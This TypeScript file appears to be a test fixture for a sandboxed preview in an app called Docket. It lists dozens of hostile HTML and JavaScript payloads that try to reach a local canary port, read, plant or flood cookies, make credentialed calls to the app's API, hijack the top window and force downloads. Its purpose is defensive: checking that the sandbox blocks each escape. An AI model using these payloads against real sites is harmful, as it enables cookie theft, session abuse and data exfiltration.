/** Where a payload could do harm. `canary` and `udp` are ports of this machine that nobody should reach. */
export type Targets = {
  docket: string
  canary: string
  canaryPort: number
  udpPort: number
  own: string
  ownHost: string
}

const script = (code: string) => `<script>${code}</script>`
const quote = (text: string) => JSON.stringify(text)

/** Pages that a hostile bundle may contain, by what they try. `n` goes into every address, so that a request names its payload. */
export const payloads: Readonly<Record<string, (targets: Targets, n: string) => string>> = {
  'an image of another host': ({ canary }, n) =>
    `<img src="${canary}/${n}"><picture><source srcset="${canary}/${n}b"><img></picture>`,
  'a script of another host': ({ canary }, n) => `<script src="${canary}/${n}"></script>`,
  'a stylesheet of another host': ({ canary }, n) => `<link rel="stylesheet" href="${canary}/${n}">`,
  'styles that load': ({ canary }, n) =>
    `<style>@import "${canary}/${n}a"; @font-face { font-family: x; src: url(${canary}/${n}b) } p { font-family: x; background: url(${canary}/${n}c); cursor: url(${canary}/${n}d), auto }</style><p>x`,
  fetch: ({ canary }, n) =>
    script(
      `for (const mode of ['no-cors', 'cors']) fetch('${canary}/${n}', { mode, method: 'POST', body: document.title, keepalive: true }).catch(() => {})`,
    ),
  XMLHttpRequest: ({ canary }, n) =>
    script(`const x = new XMLHttpRequest(); x.open('POST', '${canary}/${n}'); x.send('x')`),
  'a web socket': ({ canary }, n) => script(`new WebSocket('${canary.replace('http', 'ws')}/${n}')`),
  'an event source': ({ canary }, n) => script(`new EventSource('${canary}/${n}')`),
  'a beacon': ({ canary }, n) =>
    script(
      `navigator.sendBeacon('${canary}/${n}', 'x'); addEventListener('pagehide', () => navigator.sendBeacon('${canary}/${n}', 'y'))`,
    ),
  'prefetch and preload': ({ canary }, n) =>
    ['prefetch', 'prerender', 'modulepreload', 'preload" as="image', 'icon', 'manifest']
      .map((rel) => `<link rel="${rel}" href="${canary}/${n}">`)
      .join(''),
  'connections ahead of need': ({ canary }) =>
    `<link rel="preconnect" href="${canary}"><link rel="dns-prefetch" href="${canary}">`,
  'speculation rules': ({ canary, docket }, n) =>
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${canary}/${n}","${docket}/api/${n}"]}],"prerender":[{"source":"list","urls":["${canary}/${n}p"]}]}</script>`,
  'a meta refresh': ({ canary }, n) => `<meta http-equiv="refresh" content="0;url=${canary}/${n}">`,
  'going to another host': ({ canary }, n) => script(`location.href = '${canary}/${n}'`),
  'going to another host by a click': ({ canary }, n) =>
    `<a id="a" href="${canary}/${n}" ping="${canary}/${n}ping">x</a>${script('a.click()')}`,
  'a form to another host': ({ canary }, n) =>
    `<form id="f" method="post" action="${canary}/${n}"><input name="a" value="b"></form>${script('f.submit()')}`,
  'a frame of another host': ({ canary }, n) =>
    `<iframe src="${canary}/${n}"></iframe><object data="${canary}/${n}o"></object><embed src="${canary}/${n}e">`,
  'media and drawings': ({ canary }, n) =>
    `<video src="${canary}/${n}" poster="${canary}/${n}p"><track src="${canary}/${n}t" default></video><audio src="${canary}/${n}a" autoplay></audio><svg><image href="${canary}/${n}i"/><use href="${canary}/${n}u#x"/><filter id="f"><feImage href="${canary}/${n}f"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  'a worker': ({ canary }, n) =>
    script(
      `const code = 'fetch("${canary}/${n}", { mode: "no-cors" }).catch(() => {}); importScripts("${canary}/${n}i")'; new Worker(URL.createObjectURL(new Blob([code]))); new Worker('data:text/javascript,' + encodeURIComponent(code)); new SharedWorker('data:text/javascript,' + encodeURIComponent(code))`,
    ),
  'a module': ({ canary }, n) =>
    `<script type="module">import('${canary}/${n}').catch(() => {}); import x from '${canary}/${n}s'</script>`,
  'a service worker': () => script(`navigator.serviceWorker?.register('/sw.js').catch(() => {})`),
  WebRTC: ({ udpPort, canaryPort }) =>
    script(
      `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }, { urls: 'turn:127.0.0.1:${canaryPort}?transport=tcp', username: 'x', credential: 'y' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))`,
    ),
  WebTransport: ({ udpPort }, n) => script(`new WebTransport('https://127.0.0.1:${udpPort}/${n}')`),
  'a frame without a policy': ({ canary }, n) =>
    `<iframe srcdoc="<img src='${canary}/${n}'><script>fetch('${canary}/${n}f', { mode: 'no-cors' })</script>"></iframe><iframe src="data:text/html,<img src='${canary}/${n}d'>"></iframe><iframe id="i"></iframe>${script(`const d = i.contentDocument; d.open(); d.write('<img src="${canary}/${n}w">'); d.close(); const b = document.createElement('iframe'); b.src = URL.createObjectURL(new Blob(['<img src="${canary}/${n}b">'], { type: 'text/html' })); document.documentElement.append(b)`)}`,
  'a policy of its own': ({ canary }, n) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${canary}/${n}; report-to ${canary}/${n}"><img src="${canary}/${n}i">`,
  'another base': ({ canary, docket }, n) =>
    `<base href="${canary}/${n}/"><img src="x"><base href="${docket}/api/"><img src="y">`,
  'a popup': ({ canary, docket }, n) =>
    script(
      `for (const to of ['${canary}/${n}', '${docket}/api/${n}', 'about:blank']) { const w = open(to); if (w) w.opener.parent.postMessage('popup', '*') }`,
    ),
  'a new tab with an opener': ({ docket }, n) =>
    `<a id="a" target="_blank" rel="opener" href="${docket}/api/${n}">x</a>${script('a.click(); a.dispatchEvent(new MouseEvent("click", { ctrlKey: true })); a.dispatchEvent(new MouseEvent("click", { button: 1 }))')}`,
  'the top window': ({ canary }, n) =>
    script(
      `try { top.location = '${canary}/${n}' } catch {} try { parent.location.replace('${canary}/${n}') } catch {} try { top.close() } catch {} open('${canary}/${n}', '_top'); open('${canary}/${n}', '_parent')`,
    ),
  'a link and a form to the top': ({ docket }, n) =>
    `<base target="_top"><a id="a" href="${docket}/api/${n}">x</a><form id="f" target="_top" action="${docket}/api/${n}"></form>${script('a.click(); f.submit()')}`,
  'the history': () =>
    script(
      `history.pushState(0, ''); for (const by of [-1, -2, -5, 1]) history.go(by); history.back(); try { parent.history.back() } catch {}`,
    ),
  'reading cookies': () =>
    script(
      `try { parent.postMessage('cookie ' + document.cookie, '*') } catch (e) { parent.postMessage('cookie ', '*') } try { parent.postMessage('cookie ' + parent.document.cookie, '*') } catch {}`,
    ),
  'planting cookies': ({ docket }) =>
    script(
      `const hosts = ['', ...['${new URL(docket).hostname}', location.hostname].flatMap((h) => h.split('.').map((_, at, all) => all.slice(at).join('.')))]; for (const h of hosts) for (const name of ['docket', 'planted', '__Host-docket', '__Host-docket-preview']) for (const more of ['', '; SameSite=None; Secure', '; SameSite=None; Secure; Partitioned']) try { document.cookie = name + '=planted; Path=/' + (h && '; Domain=' + h) + more } catch {} try { cookieStore.set({ name: 'planted', value: 'x', domain: '${new URL(docket).hostname}' }).catch(() => {}) } catch {}`,
    ),
  'bombing cookies': () =>
    script(
      `for (let at = 0; at < 200; at += 1) for (const h of ['', 'localhost']) try { document.cookie = 'bomb' + at + '=' + 'x'.repeat(4000) + (h && '; Domain=' + h) } catch {}`,
    ),
  'calling the API': ({ docket }, n) =>
    script(
      `for (const method of ['GET', 'POST', 'DELETE', 'OPTIONS']) for (const mode of ['cors', 'no-cors']) try { fetch('${docket}/api/${n}', { method, mode, credentials: 'include', headers: mode === 'cors' ? { 'x-docket': '1' } : {} }).catch(() => {}) } catch {} fetch('/api/session', { credentials: 'include' }).catch(() => {})`,
    ),
  'calling the API without scripts': ({ docket }, n) =>
    `<img src="${docket}/api/${n}"><link rel="stylesheet" href="${docket}/api/${n}c"><iframe src="${docket}/api/${n}f"></iframe><form id="f" method="post" enctype="text/plain" action="${docket}/api/${n}p"><input name="{}"></form><iframe name="t"></iframe><form id="g" target="t" action="${docket}/api/${n}t"></form>${script('g.submit(); f.submit()')}`,
  'calling the API by socket and beacon': ({ docket }, n) =>
    script(
      `new WebSocket('${docket.replace('http', 'ws')}/api/${n}'); navigator.sendBeacon('${docket}/api/${n}', '{}')`,
    ),
  'going to Docket': ({ docket }, n) => script(`location = '${docket}/api/${n}'`),
  'going to Docket by a form': ({ docket }, n) =>
    `<form id="f" action="${docket}/api/${n}"></form>${script('f.submit()')}`,
  'messages to Docket': ({ docket }) =>
    script(
      `for (const to of ['*', '${docket}']) for (const m of ['x', { type: 'navigate', url: '/' }]) { parent.postMessage(m, to); top.postMessage(m, to, [new MessageChannel().port1]) }`,
    ),
  'names of windows': ({ canary }, n) =>
    script(
      `window.name = 'leak ${n}'; try { parent.name = 'leak' } catch {} try { parent.frames[0].name } catch {} location = '${canary}/${n}'`,
    ),
  'the opener': () =>
    script(
      `parent.postMessage('opener ' + String(window.opener) + String(top.opener), '*'); try { opener.location = '/' } catch {}`,
    ),
  'a download': ({ ownHost, canary }, n) =>
    `<a id="a" download="x.exe" href="data:application/octet-stream,x">x</a><a id="b" download href="//${ownHost}/app.bin">x</a><a id="c" download href="${canary}/${n}">x</a>${script('a.click(); b.click(); c.click(); onload = () => setTimeout(() => (location.href = "app.bin"))')}`,
  dialogs: () =>
    script(
      `onbeforeunload = (e) => e.preventDefault(); alert(1); confirm(2); prompt(3); print(); showOpenFilePicker?.().catch(() => {})`,
    ),
  'headers made of markup': ({ canary }, n) =>
    `<meta http-equiv="Clear-Site-Data" content="&quot;*&quot;"><meta http-equiv="Set-Cookie" content="planted=1"><meta http-equiv="Link" content="<${canary}/${n}>; rel=preload"><meta name="referrer" content="unsafe-url">`,
  'document.domain': () =>
    script(
      `for (const h of ['localhost', '${'docket'}']) try { document.domain = h; parent.document.title = 'taken' } catch {}`,
    ),
  'storage of others': () =>
    script(
      `try { localStorage.x = 1 } catch {} try { parent.localStorage.x = 1 } catch {} document.requestStorageAccess?.().catch(() => {}); caches?.open('x').catch(() => {})`,
    ),
  'features of the browser': () =>
    script(
      `navigator.geolocation?.getCurrentPosition(() => {}); try { Notification.requestPermission() } catch {} navigator.clipboard?.readText().catch(() => {}); document.documentElement.requestFullscreen?.().catch(() => {}); navigator.mediaDevices?.getUserMedia({ audio: true }).catch(() => {})`,
    ),
  'an XML stylesheet': ({ canary }, n) =>
    `<iframe src="data:text/xml,${encodeURIComponent(`<?xml-stylesheet type="text/xsl" href="${canary}/${n}"?><x/>`)}"></iframe>`,
  'scripts in addresses': ({ canary }, n) =>
    `<iframe src="javascript:fetch(${quote(`${canary}/${n}`).replaceAll('"', "'")}, { mode: 'no-cors' })"></iframe>${script(`location = 'javascript:void new Image().src="${canary}/${n}j"'`)}`,
  'navigation by API': ({ canary }, n) =>
    script(
      `navigation?.navigate('${canary}/${n}'); try { parent.navigation.navigate('${canary}/${n}p') } catch {} navigation?.back?.()`,
    ),
  'fenced frames and credentials': ({ canary }, n) =>
    `<fencedframe></fencedframe>${script(`navigator.credentials?.get({ password: true }).catch(() => {}); fetchLater?.('${canary}/${n}', { activateAfter: 0 })`)}`,
}
